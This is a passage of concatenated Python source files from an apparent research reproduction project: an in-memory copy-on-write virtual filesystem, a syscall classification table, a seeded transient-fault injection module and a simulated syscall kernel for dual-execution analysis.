    return _normalize(path.rsplit("/", 1)[0] or "/")


class VirtualFile:
    """One regular file: content plus a modification timestamp."""

    __slots__ = ("content", "mtime")

    def __init__(self, content: str = "", mtime: int = 0) -> None:
        self.content = content
        self.mtime = mtime

    def clone(self) -> "VirtualFile":
        return VirtualFile(self.content, self.mtime)

    def __repr__(self) -> str:
        return f"<VirtualFile {len(self.content)}B mtime={self.mtime}>"


class _Layer:
    """One overlay stratum.

    A path appears in at most one of ``files``, ``dirs`` or
    ``tombstones`` per layer; lookup walks the chain top-down and the
    first layer mentioning a path decides its kind (a tombstone means
    "deleted here — stop looking").
    """

    __slots__ = ("files", "dirs", "tombstones", "parent")

    def __init__(self, parent: Optional["_Layer"] = None) -> None:
        self.files: Dict[str, VirtualFile] = {}
        self.dirs: Set[str] = set()
        self.tombstones: Set[str] = set()
        self.parent = parent

    @property
    def touched(self) -> bool:
        return bool(self.files or self.dirs or self.tombstones)


# File kinds returned by the layer-chain resolver.
_FILE = "file"
_DIR = "dir"


class VirtualFS:
    """A cloneable overlay tree of directories and files."""

    def __init__(self) -> None:
        self._top = _Layer()
        self._top.dirs.add("/")

    # -- layer-chain resolution ------------------------------------------------

    def _resolve(self, path: str) -> Optional[str]:
        """Kind of a normalized path: ``"file"``, ``"dir"`` or None."""
        layer: Optional[_Layer] = self._top
        while layer is not None:
            if path in layer.files:
                return _FILE
            if path in layer.dirs:
                return _DIR
            if path in layer.tombstones:
                return None
            layer = layer.parent
        return None

    def _lookup(self, path: str) -> Optional[VirtualFile]:
        """The VirtualFile for a normalized path, wherever it lives."""
        layer: Optional[_Layer] = self._top
        while layer is not None:
            vfile = layer.files.get(path)
            if vfile is not None:
                return vfile
            if path in layer.dirs or path in layer.tombstones:
                return None
            layer = layer.parent
        return None

    def _layers(self) -> List[_Layer]:
        layers: List[_Layer] = []
        layer: Optional[_Layer] = self._top
        while layer is not None:
            layers.append(layer)
            layer = layer.parent
        return layers

    def _known_paths(self) -> Set[str]:
        """Every path any layer mentions (including deleted ones)."""
        known: Set[str] = set()
        for layer in self._layers():
            known.update(layer.files)
            known.update(layer.dirs)
        return known

    # -- setup helpers (used by workload World definitions) -------------------

    def add_file(self, path: str, content: str, mtime: int = 0) -> None:
        """Create a file, creating parent directories as needed."""
        path = _normalize(path)
        self._ensure_parents(path)
        self._top.tombstones.discard(path)
        self._top.dirs.discard(path)
        self._top.files[path] = VirtualFile(content, mtime)

    def _ensure_parents(self, path: str) -> None:
        parent = parent_dir(path)
        while self._resolve(parent) is None:
            self._top.tombstones.discard(parent)
            self._top.dirs.add(parent)
            parent = parent_dir(parent)

    # -- queries -------------------------------------------------------------

    def exists(self, path: str) -> bool:
        return self._resolve(_normalize(path)) is not None

    def is_file(self, path: str) -> bool:
        return self._resolve(_normalize(path)) == _FILE

    def is_dir(self, path: str) -> bool:
        return self._resolve(_normalize(path)) == _DIR

    def file(self, path: str) -> Optional[VirtualFile]:
        """The file at *path*, private to this overlay (copy-up).

        The returned object may be mutated in place; a base-layer file
        is copied into the top delta first so the mutation can never
        reach another execution sharing the base.
        """
        path = _normalize(path)
        top = self._top
        vfile = top.files.get(path)
        if vfile is not None:
            return vfile
        if path in top.dirs or path in top.tombstones:
            return None
        layer = top.parent
        while layer is not None:
            below = layer.files.get(path)
            if below is not None:
                copied = below.clone()
                top.files[path] = copied
                return copied
            if path in layer.dirs or path in layer.tombstones:
                return None
            layer = layer.parent
        return None

    def read_file(self, path: str) -> Optional[VirtualFile]:
        """The file at *path* without copy-up.

        The returned object may be shared with other overlays: callers
        must treat it as read-only (use :meth:`file` to mutate).
        Read-heavy paths (kernel reads, FS diffing) use this so the
        overlay delta stays a record of writes.
        """
        return self._lookup(_normalize(path))

    def listdir(self, path: str) -> Optional[List[str]]:
        """Entries directly inside *path*, or None when not a directory."""
        path = _normalize(path)
        if self._resolve(path) != _DIR:
            return None
        prefix = path if path.endswith("/") else path + "/"
        names: Set[str] = set()
        for candidate in self._known_paths():
            if (
                candidate != path
                and candidate.startswith(prefix)
                and self._resolve(candidate) is not None
            ):
                remainder = candidate[len(prefix) :]
                names.add(remainder.split("/", 1)[0])
        return sorted(names)

    def paths(self) -> List[str]:
        """All file paths (sorted) — used by tests and diffing."""
        candidates: Set[str] = set()
        for layer in self._layers():
            candidates.update(layer.files)
        return sorted(p for p in candidates if self._resolve(p) == _FILE)

    # -- mutations -------------------------------------------------------------

    def create_file(self, path: str, mtime: int) -> Optional[VirtualFile]:
        """Create/truncate a file; None when the parent dir is missing."""
        path = _normalize(path)
        if self._resolve(parent_dir(path)) != _DIR or self._resolve(path) == _DIR:
            return None
        created = VirtualFile("", mtime)
        self._top.tombstones.discard(path)
        self._top.files[path] = created
        return created

    def mkdir(self, path: str) -> bool:
        path = _normalize(path)
        if self.exists(path) or self._resolve(parent_dir(path)) != _DIR:
            return False
        self._top.tombstones.discard(path)
        self._top.dirs.add(path)
        return True

    def unlink(self, path: str) -> bool:
        path = _normalize(path)
        kind = self._resolve(path)
        if kind == _FILE:
            self._top.files.pop(path, None)
            self._top.tombstones.add(path)
            return True
        if kind == _DIR and path != "/":
            if self.listdir(path):
                return False  # non-empty
            self._top.dirs.discard(path)
            self._top.tombstones.add(path)
            return True
        return False

    def rename(self, old: str, new: str) -> bool:
        old = _normalize(old)
        new = _normalize(new)
        if self._resolve(old) != _FILE:
            return False
        if self._resolve(parent_dir(new)) != _DIR or self._resolve(new) == _DIR:
            return False
        moved = self._top.files.pop(old, None)
        if moved is None:
            moved = self._lookup(old).clone()
        self._top.tombstones.add(old)
        self._top.tombstones.discard(new)
        self._top.dirs.discard(new)
        self._top.files[new] = moved
        return True

    # -- cloning ----------------------------------------------------------------

    def clone(self) -> "VirtualFS":
        """Copy-on-write fork: O(delta), not O(tree).

        The current delta is frozen into a base shared by both sides;
        each side continues with a fresh empty delta, so neither can
        observe the other's subsequent writes.
        """
        top = self._top
        if top.touched or top.parent is None:
            self._top = _Layer(parent=top)
            base = top
        else:
            # Nothing written since the last freeze: reuse that base
            # instead of stacking an empty layer per clone.
            base = top.parent
        copy = VirtualFS.__new__(VirtualFS)
        copy._top = _Layer(parent=base)
        return copy

    def deep_clone(self) -> "VirtualFS":
        """Materialized deep copy of the merged tree (single layer).

        The pre-overlay reference semantics: O(tree) — kept for
        benchmarks (`bench_fs_overlay.py`) and as the oracle the
        clone-isolation property tests compare the overlay against.
        """
        copy = VirtualFS()
        merged = copy._top
        seen: Set[str] = set()
        for layer in self._layers():
            for path, vfile in layer.files.items():
                if path not in seen:
                    seen.add(path)
                    merged.files[path] = vfile.clone()
            for path in layer.dirs:
                if path not in seen:
                    seen.add(path)
                    merged.dirs.add(path)
            seen.update(layer.tombstones)
        merged.dirs.add("/")
        return copy

    def flatten(self) -> "VirtualFS":
        """Collapse the layer chain into a single layer, in place.

        Bounds lookup cost after long clone lineages; the frozen bases
        other overlays share are untouched.  Returns self.
        """
        self._top = self.deep_clone()._top
        return self

    @property
    def depth(self) -> int:
        """Number of layers in the overlay chain (1 = no clones)."""
        return len(self._layers())

    # -- checkpoint delta --------------------------------------------------------

    def delta(self) -> Dict[str, object]:
        """Serializable overlay delta relative to the pristine base.

        Everything above the bottom-most layer, merged top-down (first
        mention of a path wins).  A never-cloned tree has no base to
        leave implicit, so its whole content is the delta — applying it
        to an identically built tree is then idempotent.
        """
        layers = self._layers()
        if len(layers) > 1:
            layers = layers[:-1]  # the pristine base stays implicit
        files: Dict[str, Tuple[str, int]] = {}
        dirs: List[str] = []
        tombstones: List[str] = []
        seen: Set[str] = set()
        for layer in layers:
            for path, vfile in layer.files.items():
                if path not in seen:
                    seen.add(path)
                    files[path] = (vfile.content, vfile.mtime)
            for path in layer.dirs:
                if path not in seen:
                    seen.add(path)
                    dirs.append(path)
            for path in layer.tombstones:
                if path not in seen:
                    seen.add(path)
                    tombstones.append(path)
        return {"files": files, "dirs": sorted(dirs), "tombstones": sorted(tombstones)}

    def apply_delta(self, delta: Dict[str, object]) -> None:
        """Replay a :meth:`delta` onto this tree (checkpoint restore).

        Deletions first (deepest paths before their parents), then
        directories shallow-first, then file contents.
        """
        for path in sorted(delta["tombstones"], key=lambda p: -p.count("/")):
            self.unlink(path)
        for path in delta["dirs"]:
            if path != "/" and self._resolve(path) != _DIR:
                self._ensure_parents(path + "/x")  # creates path and ancestors
        for path, (content, mtime) in sorted(delta["files"].items()):
            self.add_file(path, content, mtime)

    def __repr__(self) -> str:
        return (
            f"<VirtualFS {len(self.paths())} files, depth={self.depth}>"
        )
