"""In-memory virtual filesystem.

Files hold string content (MiniC strings play the role of byte
buffers).  Directories are implicit via path prefixes but tracked
explicitly so ``mkdir``/``listdir`` behave like a real FS.  The whole
tree supports deep cloning — the mechanism behind the paper's
copy-on-divergence resource handling (Section 7, "Light-weight Resource
Tainting").
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set


def _normalize(path: str) -> str:
    """Normalize a path: collapse slashes, resolve ``.``/``..`` segments
    (clamping ``..`` at the root), ensure a leading slash.

    Resolving dot-segments here is load-bearing: ``/a/../b`` and ``/b``
    must be the *same* file, or aliased writes escape both
    copy-on-divergence cloning and master/slave FS diffing.
    """
    parts: List[str] = []
    for part in path.split("/"):
        if not part or part == ".":
            continue
        if part == "..":
            if parts:
                parts.pop()
            continue  # ".." at the root stays at the root
        parts.append(part)
    return "/" + "/".join(parts)


def parent_dir(path: str) -> str:
    """Parent directory of a normalized path ('/' for top-level)."""
    path = _normalize(path)
    if path == "/":
        return "/"
    return _normalize(path.rsplit("/", 1)[0] or "/")


class VirtualFile:
    """One regular file: content plus a modification timestamp."""

    __slots__ = ("content", "mtime")

    def __init__(self, content: str = "", mtime: int = 0) -> None:
        self.content = content
        self.mtime = mtime

    def clone(self) -> "VirtualFile":
        return VirtualFile(self.content, self.mtime)

    def __repr__(self) -> str:
        return f"<VirtualFile {len(self.content)}B mtime={self.mtime}>"


class VirtualFS:
    """A cloneable tree of directories and files."""

    def __init__(self) -> None:
        self._files: Dict[str, VirtualFile] = {}
        self._dirs: Set[str] = {"/"}

    # -- setup helpers (used by workload World definitions) -------------------

    def add_file(self, path: str, content: str, mtime: int = 0) -> None:
        """Create a file, creating parent directories as needed."""
        path = _normalize(path)
        self._ensure_parents(path)
        self._files[path] = VirtualFile(content, mtime)

    def _ensure_parents(self, path: str) -> None:
        parent = parent_dir(path)
        while parent not in self._dirs:
            self._dirs.add(parent)
            parent = parent_dir(parent)

    # -- queries -------------------------------------------------------------

    def exists(self, path: str) -> bool:
        path = _normalize(path)
        return path in self._files or path in self._dirs

    def is_file(self, path: str) -> bool:
        return _normalize(path) in self._files

    def is_dir(self, path: str) -> bool:
        return _normalize(path) in self._dirs

    def file(self, path: str) -> Optional[VirtualFile]:
        return self._files.get(_normalize(path))

    def listdir(self, path: str) -> Optional[List[str]]:
        """Entries directly inside *path*, or None when not a directory."""
        path = _normalize(path)
        if path not in self._dirs:
            return None
        prefix = path if path.endswith("/") else path + "/"
        names: Set[str] = set()
        for candidate in list(self._files) + list(self._dirs):
            if candidate != path and candidate.startswith(prefix):
                remainder = candidate[len(prefix) :]
                names.add(remainder.split("/", 1)[0])
        return sorted(names)

    def paths(self) -> List[str]:
        """All file paths (sorted) — used by tests and diffing."""
        return sorted(self._files)

    # -- mutations -------------------------------------------------------------

    def create_file(self, path: str, mtime: int) -> Optional[VirtualFile]:
        """Create/truncate a file; None when the parent dir is missing."""
        path = _normalize(path)
        if parent_dir(path) not in self._dirs or path in self._dirs:
            return None
        created = VirtualFile("", mtime)
        self._files[path] = created
        return created

    def mkdir(self, path: str) -> bool:
        path = _normalize(path)
        if self.exists(path) or parent_dir(path) not in self._dirs:
            return False
        self._dirs.add(path)
        return True

    def unlink(self, path: str) -> bool:
        path = _normalize(path)
        if path in self._files:
            del self._files[path]
            return True
        if path in self._dirs and path != "/":
            if self.listdir(path):
                return False  # non-empty
            self._dirs.discard(path)
            return True
        return False

    def rename(self, old: str, new: str) -> bool:
        old = _normalize(old)
        new = _normalize(new)
        if old not in self._files or parent_dir(new) not in self._dirs:
            return False
        if new in self._dirs:
            return False
        self._files[new] = self._files.pop(old)
        return True

    def clone(self) -> "VirtualFS":
        """Deep copy of the whole tree."""
        copy = VirtualFS()
        copy._dirs = set(self._dirs)
        copy._files = {path: f.clone() for path, f in self._files.items()}
        return copy

    def __repr__(self) -> str:
        return f"<VirtualFS {len(self._files)} files, {len(self._dirs)} dirs>"
