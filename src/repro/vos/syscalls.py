"""Syscall classification table.

Drives three engine decisions per syscall:

* **sharing** — ``NONDET_INPUT`` outcomes are copied master->slave when
  the calls align (the paper's outcome sharing that removes
  environmental nondeterminism);
* **sink selection** — default sink sets are built from categories
  (outgoing network syscalls for networked programs, file outputs
  otherwise, Section 8 "Instrumentation Details");
* **resource tainting** — each syscall maps to the resource it touches,
  so misalignment can taint that resource (Section 7).
"""

from __future__ import annotations

from typing import FrozenSet

from repro.lang.intrinsics import SYSCALL_BUILTINS

# Outcomes that model external nondeterminism; shared when aligned.
NONDET_INPUT: FrozenSet[str] = frozenset({"time", "rand", "getpid", "recv"})

# Syscalls with externally visible effects; candidates for sinks.
OUTPUT_SYSCALLS: FrozenSet[str] = frozenset(
    {"write", "send", "print", "mkdir", "unlink", "rename"}
)

# Input syscalls (data flows into the program).
INPUT_SYSCALLS: FrozenSet[str] = frozenset(
    {"read", "read_line", "recv", "listdir", "stat", "getenv", "source_read"}
)

# Syscalls that are always executed independently by both executions
# (the paper: "some special syscalls are always executed independently
# such as process creation").
ALWAYS_INDEPENDENT: FrozenSet[str] = frozenset(
    {"thread_spawn", "thread_join", "exit", "malloc", "free"}
)

NETWORK_OUT: FrozenSet[str] = frozenset({"send"})
FILE_OUT: FrozenSet[str] = frozenset({"write", "print"})

# Thread service calls are intercepted by the scheduler, not the kernel.
THREAD_SYSCALLS: FrozenSet[str] = frozenset(
    {"thread_spawn", "thread_join", "mutex_create", "mutex_lock", "mutex_unlock"}
)


def is_output(name: str) -> bool:
    return name in OUTPUT_SYSCALLS


def is_nondet_input(name: str) -> bool:
    return name in NONDET_INPUT


def validate_coverage() -> None:
    """Every syscall builtin must be known to this table's universe."""
    known = (
        NONDET_INPUT
        | OUTPUT_SYSCALLS
        | INPUT_SYSCALLS
        | ALWAYS_INDEPENDENT
        | THREAD_SYSCALLS
        | {
            "open",
            "close",
            "seek",
            "socket",
            "connect",
            "sleep",
            "sink_observe",
        }
    )
    missing = set(SYSCALL_BUILTINS) - known
    if missing:
        raise AssertionError(f"unclassified syscalls: {sorted(missing)}")


validate_coverage()
