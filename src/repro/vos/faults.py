"""Deterministic, seed-driven transient-fault injection (the chaos layer).

Real dual-execution deployments must survive the operating system being
unhelpful: interrupted reads and writes (EINTR), short reads, a full
disk (ENOSPC), connections resetting mid-transfer, lock acquisitions
timing out.  This module models those as a *fault plan* — a seeded
schedule of errno-style failures wired into :meth:`Kernel.execute` —
so the engine's self-healing machinery (bounded retry with virtual-time
backoff, short-read continuation, the watchdog's degradation ladder)
can be exercised deterministically and swept across seeds by the chaos
harness (``repro.eval.robustness``).

Fault classes and the syscalls they cover:

* ``read``  — ``read``/``read_line``: EINTR, short reads;
* ``write`` — ``write``: EINTR or ENOSPC;
* ``net``   — ``send``/``recv``/``connect``: connection resets and
  refusals, short receives;
* ``lock``  — ``mutex_lock``: acquisition timeouts (pure virtual-time
  delays; the scheduler still decides ownership).

Every fault is *transient*: a faulted syscall fails for a bounded burst
of consecutive attempts (``burst_max``) and then succeeds.  When the
retry budget exceeds the burst bound (the default), every fault is
masked by retry and the robustness invariant holds: injected faults
change timing, never outcomes.  Configuring ``max_retries <=
burst_max`` lets faults escape the retry layer, which exercises the
escalation ladder (errno-convention failure -> resource taint ->
decoupling -> degraded verdicts) instead.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.vos.clock import DeterministicRng

# Fault kinds.
TRANSIENT = "transient"  # the syscall fails with an errno, then succeeds
SHORT_READ = "short-read"  # the syscall succeeds but returns partial data
LOCK_DELAY = "lock-delay"  # the acquisition attempt times out (a delay)

# Syscall name -> fault class.
FAULT_CLASS: Dict[str, str] = {
    "read": "read",
    "read_line": "read",
    "write": "write",
    "send": "net",
    "recv": "net",
    "connect": "net",
    "mutex_lock": "lock",
}

# C-convention failure value per syscall, returned when retries exhaust.
_FALLBACK: Dict[str, object] = {
    "read": None,
    "read_line": None,
    "recv": None,
    "write": -1,
    "send": -1,
    "connect": -1,
    "mutex_lock": -1,
}


class Fault:
    """One injected fault decision for one syscall invocation."""

    __slots__ = ("kind", "errno", "syscall", "failures", "fallback")

    def __init__(
        self, kind: str, errno: str, syscall: str, failures: int, fallback: object
    ) -> None:
        self.kind = kind
        self.errno = errno
        self.syscall = syscall
        # Consecutive failed attempts this syscall experiences before
        # succeeding — the bounded burst.
        self.failures = failures
        self.fallback = fallback

    def __repr__(self) -> str:
        return f"<Fault {self.errno} on {self.syscall} x{self.failures}>"


class FaultConfig:
    """Declarative description of one transient-fault schedule.

    ``rate`` is the per-eligible-syscall fault probability; per-class
    overrides go in ``class_rates`` (keys: ``read``/``write``/``net``/
    ``lock``).  ``burst_max`` bounds consecutive failures per faulted
    syscall; ``max_retries`` is the interpreter's per-syscall retry
    budget.  With ``max_retries > burst_max`` (the default) every fault
    is masked and dual-execution outcomes are provably unchanged.
    """

    def __init__(
        self,
        seed: int = 0,
        rate: float = 0.05,
        class_rates: Optional[Dict[str, float]] = None,
        burst_max: int = 2,
        max_retries: int = 4,
    ) -> None:
        if not 0.0 <= rate <= 1.0:
            raise ValueError(f"fault rate must be in [0, 1], got {rate!r}")
        for klass, class_rate in (class_rates or {}).items():
            if klass not in {"read", "write", "net", "lock"}:
                raise ValueError(f"unknown fault class {klass!r}")
            if not 0.0 <= class_rate <= 1.0:
                raise ValueError(f"rate for {klass!r} must be in [0, 1]")
        if burst_max < 1:
            raise ValueError("burst_max must be >= 1")
        if max_retries < 0:
            raise ValueError("max_retries must be >= 0")
        self.seed = seed
        self.rate = rate
        self.class_rates: Dict[str, float] = dict(class_rates or {})
        self.burst_max = burst_max
        self.max_retries = max_retries

    def rate_for(self, klass: str) -> float:
        return self.class_rates.get(klass, self.rate)

    @property
    def masks_all_faults(self) -> bool:
        """True when the retry budget covers any possible burst, so no
        fault can surface at the program level."""
        return self.max_retries >= self.burst_max

    def plan_for(self, role: str) -> "FaultPlan":
        """Build one execution's plan; each role draws an independent
        deterministic schedule from the shared seed."""
        return FaultPlan(self, role)


class FaultPlan:
    """One execution's deterministic fault schedule, plus its record of
    what was actually injected (the degradation report's raw material)."""

    def __init__(self, config: FaultConfig, role: str = "exec") -> None:
        self.config = config
        self.role = role
        salt = sum((position + 1) * ord(char) for position, char in enumerate(role))
        self._rng = DeterministicRng(config.seed * 1_000_003 + salt * 7 + 1)
        # (syscall, errno, failures) per injected fault.
        self.injections: List[Tuple[str, str, int]] = []
        self.retries = 0
        self.short_reads = 0
        self.lock_delays = 0
        # Syscall names whose faults outlasted the retry budget.
        self.exhausted: List[str] = []
        self.decisions = 0
        # The fault injected by the most recent Kernel.execute call
        # that did NOT raise (short reads succeed with partial data);
        # the retry layer inspects it to run continuation reads.
        self.last_injection: Optional[Fault] = None

    # -- the decision procedure ------------------------------------------------

    def decide(self, name: str, args: tuple) -> Optional[Fault]:
        """Roll for a fault on this syscall invocation; None = healthy."""
        self.last_injection = None
        klass = FAULT_CLASS.get(name)
        if klass is None:
            return None
        rate = self.config.rate_for(klass)
        if rate <= 0.0:
            return None
        self.decisions += 1
        if self._rng.next_int(1_000_000) >= int(rate * 1_000_000):
            return None
        fault = self._make_fault(name, args)
        if fault is None:
            return None
        self.injections.append((fault.syscall, fault.errno, fault.failures))
        if fault.kind == SHORT_READ:
            self.short_reads += 1
        elif fault.kind == LOCK_DELAY:
            self.lock_delays += 1
        self.last_injection = fault
        return fault

    def _make_fault(self, name: str, args: tuple) -> Optional[Fault]:
        failures = 1 + self._rng.next_int(self.config.burst_max)
        fallback = _FALLBACK[name]
        if name in ("read", "recv"):
            count = args[1] if len(args) > 1 else None
            if isinstance(count, int) and count >= 2 and self._rng.next_int(2) == 0:
                return Fault(SHORT_READ, "ESHORT", name, failures, fallback)
            errno = "EINTR" if name == "read" else "ECONNRESET"
            return Fault(TRANSIENT, errno, name, failures, fallback)
        if name == "read_line":
            return Fault(TRANSIENT, "EINTR", name, failures, fallback)
        if name == "write":
            errno = "ENOSPC" if self._rng.next_int(2) == 0 else "EINTR"
            return Fault(TRANSIENT, errno, name, failures, fallback)
        if name == "send":
            return Fault(TRANSIENT, "ECONNRESET", name, failures, fallback)
        if name == "connect":
            return Fault(TRANSIENT, "ECONNREFUSED", name, failures, fallback)
        if name == "mutex_lock":
            return Fault(LOCK_DELAY, "ETIMEDOUT", name, failures, fallback)
        return None  # pragma: no cover - FAULT_CLASS is exhaustive

    # -- retry-layer bookkeeping -----------------------------------------------

    def note_retries(self, count: int) -> None:
        self.retries += count

    def note_exhausted(self, syscall: str) -> None:
        self.exhausted.append(syscall)

    @property
    def injected(self) -> int:
        return len(self.injections)
