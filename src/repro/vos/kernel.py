"""The syscall layer: dispatches MiniC syscall builtins against a World.

Error handling follows C conventions rather than exceptions: failing
syscalls return ``-1`` or ``nil`` so MiniC programs can test outcomes,
mirroring how the paper's benchmarks behave at the syscall boundary.

The kernel also resolves each syscall to the *resource* it touches
(file path, connection, stdin/stdout) — the unit of the paper's
resource tainting — and logs output syscalls for sink comparison.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Tuple

from repro.errors import FaultInjected, ReproError
from repro.ir.ops import stringify
from repro.vos.faults import SHORT_READ, FaultPlan
from repro.vos.filesystem import VirtualFile, parent_dir
from repro.vos.network import Connection
from repro.vos.world import World


class ProgramExit(ReproError):
    """Raised when the program calls exit(code)."""

    def __init__(self, code: int) -> None:
        super().__init__(f"exit({code})")
        self.code = code


class _OpenFile:
    """A file descriptor's state."""

    __slots__ = ("path", "mode", "pos")

    def __init__(self, path: str, mode: str) -> None:
        self.path = path
        self.mode = mode
        self.pos = 0


class Kernel:
    """Executes syscalls for one program execution over one World."""

    STDIN = 0
    STDOUT = 1
    STDERR = 2

    # Lazily-built per-class syscall dispatch table (see __init__).
    _handlers: Optional[Dict[str, Callable]] = None

    def __init__(self, world: World, faults: Optional[FaultPlan] = None) -> None:
        self.world = world
        # Optional transient-fault schedule (the chaos layer).  None =
        # the fault-free kernel the paper's experiments assume.
        self.faults = faults
        self._files: Dict[int, _OpenFile] = {}
        self._sockets: Dict[int, Optional[Connection]] = {}
        self._next_fd = 3
        self._stdin_pos = 0
        self._next_mutex = 1
        self.stdout: List[str] = []
        # (name, args, result) for every output syscall — sink material.
        self.output_log: List[Tuple[str, tuple, object]] = []
        # (label, value) pairs from sink_observe.
        self.observations: List[Tuple[str, object]] = []
        # (size, address) pairs from malloc — attack-detection sinks.
        self.allocations: List[Tuple[int, int]] = []
        self._next_alloc = world.heap_base
        self.syscall_count = 0
        # name -> unbound handler, resolved once per class: both the
        # per-syscall f-string + getattr dispatch and a per-instance
        # dir() scan are measurable on the event path (kernels are
        # constructed per execution).
        cls = type(self)
        if cls._handlers is None:
            cls._handlers = {
                attr[len("_sys_"):]: getattr(cls, attr)
                for attr in dir(cls)
                if attr.startswith("_sys_")
            }

    # -- dispatch --------------------------------------------------------------

    def execute(self, name: str, args: tuple, inject: bool = True):
        """Run one syscall; returns its MiniC-level result.

        With a fault plan attached, this is where faults strike:
        transient failures raise :class:`FaultInjected` *before* the
        handler runs (so retrying re-executes it exactly once), and
        short reads truncate the requested count (the retry layer
        completes them with ``inject=False`` continuation calls).
        """
        self.syscall_count += 1
        handler = self._handlers.get(name)
        if handler is None:
            raise ReproError(f"kernel has no handler for syscall {name!r}")
        if inject and self.faults is not None:
            fault = self.faults.decide(name, args)
            if fault is not None:
                if fault.kind == SHORT_READ:
                    args = (args[0], max(1, args[1] // 2))
                else:
                    raise FaultInjected(fault)
        return handler(self, *args)

    def resource_of(self, name: str, args: tuple) -> Optional[str]:
        """Resource identity a syscall touches (for tainting)."""
        try:
            if name in ("open", "stat", "mkdir", "listdir", "unlink"):
                return f"file:{args[0]}"
            if name == "rename":
                return f"file:{args[0]}"
            if name in ("read", "read_line", "write", "seek", "close"):
                fd = args[0]
                if fd == self.STDIN:
                    return "stdin"
                if fd in (self.STDOUT, self.STDERR):
                    return "stdout"
                if fd in self._files:
                    return f"file:{self._files[fd].path}"
                if fd in self._sockets:
                    return self._socket_resource(fd)
                return None
            if name in ("send", "recv", "connect"):
                return self._socket_resource(args[0])
            if name == "print":
                return "stdout"
            if name == "getenv":
                return f"env:{args[0]}"
            if name in ("source_read", "sink_observe"):
                return f"annot:{args[0]}"
        except (IndexError, TypeError):
            return None
        return None

    # File descriptors are process-local identities: after a decoupled
    # stretch the slave's numbering may shift even though it operates on
    # the same files.  Cross-execution comparison therefore uses a
    # *signature* that replaces fd arguments with the resource they
    # denote — matching the paper's comparison of output buffer
    # contents rather than raw parameter words.
    _FD_FIRST_ARG = frozenset(
        {"read", "read_line", "write", "seek", "close", "send", "recv", "connect"}
    )

    def signature_of(self, name: str, args: tuple) -> tuple:
        """Cross-execution comparison key for a syscall."""
        if name in self._FD_FIRST_ARG and args:
            resource = self.resource_of(name, args)
            return (name, resource) + tuple(args[1:])
        return (name,) + tuple(args)

    def _socket_resource(self, fd) -> Optional[str]:
        connection = self._sockets.get(fd)
        if connection is None:
            return None
        return f"conn:{connection.address}"

    # -- file syscalls ----------------------------------------------------------

    def _sys_open(self, path, mode="r"):
        if not isinstance(path, str) or mode not in ("r", "w", "a"):
            return -1
        fs = self.world.fs
        if mode == "r":
            if not fs.is_file(path):
                return -1
        elif mode == "w":
            if fs.create_file(path, self.world.clock.peek()) is None:
                return -1
        else:  # append
            if not fs.is_file(path):
                if fs.create_file(path, self.world.clock.peek()) is None:
                    return -1
        handle = _OpenFile(path, mode)
        if mode == "a":
            handle.pos = len(fs.read_file(path).content)
        fd = self._next_fd
        self._next_fd += 1
        self._files[fd] = handle
        return fd

    def _sys_close(self, fd):
        if fd in self._files:
            del self._files[fd]
            return 0
        if fd in self._sockets:
            connection = self._sockets.pop(fd)
            if connection is not None:
                connection.closed = True
            return 0
        return -1

    def _file_for_read(self, fd) -> Optional[Tuple[_OpenFile, VirtualFile]]:
        handle = self._files.get(fd)
        if handle is None:
            return None
        # read_file: no copy-up, so pure reads never grow the overlay
        # delta (writes go through _sys_write, which uses fs.file()).
        vfile = self.world.fs.read_file(handle.path)
        if vfile is None:
            return None
        return handle, vfile

    def _sys_read(self, fd, count):
        if not isinstance(count, int) or count < 0:
            return None
        if fd == self.STDIN:
            data = self.world.stdin[self._stdin_pos : self._stdin_pos + count]
            self._stdin_pos += len(data)
            return data
        pair = self._file_for_read(fd)
        if pair is None:
            return None
        handle, vfile = pair
        data = vfile.content[handle.pos : handle.pos + count]
        handle.pos += len(data)
        return data

    def _sys_read_line(self, fd):
        if fd == self.STDIN:
            rest = self.world.stdin[self._stdin_pos :]
        else:
            pair = self._file_for_read(fd)
            if pair is None:
                return None
            handle, vfile = pair
            rest = vfile.content[handle.pos :]
        newline = rest.find("\n")
        line = rest if newline < 0 else rest[: newline + 1]
        if fd == self.STDIN:
            self._stdin_pos += len(line)
        else:
            handle.pos += len(line)
        return line

    def _sys_write(self, fd, data):
        text = stringify(data)
        if fd in (self.STDOUT, self.STDERR):
            self.stdout.append(text)
            self.output_log.append(("write", (fd, text), len(text)))
            return len(text)
        handle = self._files.get(fd)
        if handle is None or handle.mode == "r":
            return -1
        vfile = self.world.fs.file(handle.path)
        if vfile is None:
            return -1
        content = vfile.content
        if handle.pos > len(content):
            content = content + "\0" * (handle.pos - len(content))
        vfile.content = content[: handle.pos] + text + content[handle.pos + len(text) :]
        vfile.mtime = self.world.clock.peek()
        handle.pos += len(text)
        self.output_log.append(("write", (fd, text), len(text)))
        return len(text)

    def _sys_seek(self, fd, pos):
        handle = self._files.get(fd)
        if handle is None or not isinstance(pos, int) or pos < 0:
            return -1
        handle.pos = pos
        return pos

    def _sys_stat(self, path):
        vfile = self.world.fs.read_file(path) if isinstance(path, str) else None
        if vfile is None:
            return None
        return [len(vfile.content), vfile.mtime]

    def _sys_mkdir(self, path):
        ok = isinstance(path, str) and self.world.fs.mkdir(path)
        result = 0 if ok else -1
        self.output_log.append(("mkdir", (path,), result))
        return result

    def _sys_unlink(self, path):
        ok = isinstance(path, str) and self.world.fs.unlink(path)
        result = 0 if ok else -1
        self.output_log.append(("unlink", (path,), result))
        return result

    def _sys_rename(self, old, new):
        ok = (
            isinstance(old, str)
            and isinstance(new, str)
            and self.world.fs.rename(old, new)
        )
        result = 0 if ok else -1
        self.output_log.append(("rename", (old, new), result))
        return result

    def _sys_listdir(self, path):
        if not isinstance(path, str):
            return None
        return self.world.fs.listdir(path)

    # -- network ---------------------------------------------------------------

    def _sys_socket(self):
        fd = self._next_fd
        self._next_fd += 1
        self._sockets[fd] = None
        return fd

    def _sys_connect(self, fd, host, port):
        if fd not in self._sockets or not isinstance(host, str):
            return -1
        connection = self.world.network.connect(host, port)
        if connection is None:
            return -1
        self._sockets[fd] = connection
        return 0

    def _sys_send(self, fd, data):
        connection = self._sockets.get(fd)
        if connection is None:
            return -1
        text = stringify(data)
        count = connection.send(text)
        if count is None:
            # Use-after-close: EBADF-style failure.  Nothing reached
            # the endpoint, so nothing lands in the output log either.
            return -1
        self.output_log.append(("send", (fd, text), count))
        return count

    def _sys_recv(self, fd, count):
        connection = self._sockets.get(fd)
        if connection is None or not isinstance(count, int) or count < 0:
            return None
        # A closed connection yields None (EBADF), distinct from the
